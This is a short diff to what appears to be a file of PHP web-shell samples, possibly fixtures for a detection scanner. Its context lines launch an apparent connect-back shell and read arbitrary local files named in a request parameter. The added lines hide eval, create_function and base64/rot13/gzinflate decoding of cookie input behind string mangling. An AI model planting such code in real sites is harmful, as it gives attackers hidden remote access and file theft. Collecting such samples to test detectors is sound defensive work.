@@ -18,3 +18,6 @@
 <?php $p = $_SERVER['REMOTE_PORT']; echo 'back to ' . $p; @System( './fs ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['REMOTE_PORT'] ); ?>
 <?php $c = curl_init(); Curl_SetOpt( $c, CURLOPT_URL, "file:" . "file:///" . $_GET['f'] ); curl_exec($c); ?>
 <?php if (!is_dir('file:')) MkDir( 'file:' ); chdir('file:'); ?>
+<?php function dec($s, $t) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= IsSet( $t[ $s[$i] ] ) ? $t[ $s[$i] ] : $s[$i]; } return $o; } EVAL( dec('qevag(1);', array('q' => 'p', 'e' => 'r', 'v' => 'i', 'a' => 'n', 'g' => 't')) ); ?>
+<?php $r = Str_Replace( "q", "", "qsqtqrq_qrqeqpqlqaqcqe" ); $c = $r( "zz", "", "czzrezzatzze_fzzunctzzion" ); $d = $r( "k", "", "bkase64_dkecode" ); $f = $c( '', $d( 'ZWNobyAxOw==' ) ); $f(); ?>
+<?php $d = Str_Rot13( "onfr64_" . "qrpbqr" ); $z = STR_ROT13( 'tmva' . 'syngr' ); echo $z( $d( $_COOKIE['p'] ) ); ?>
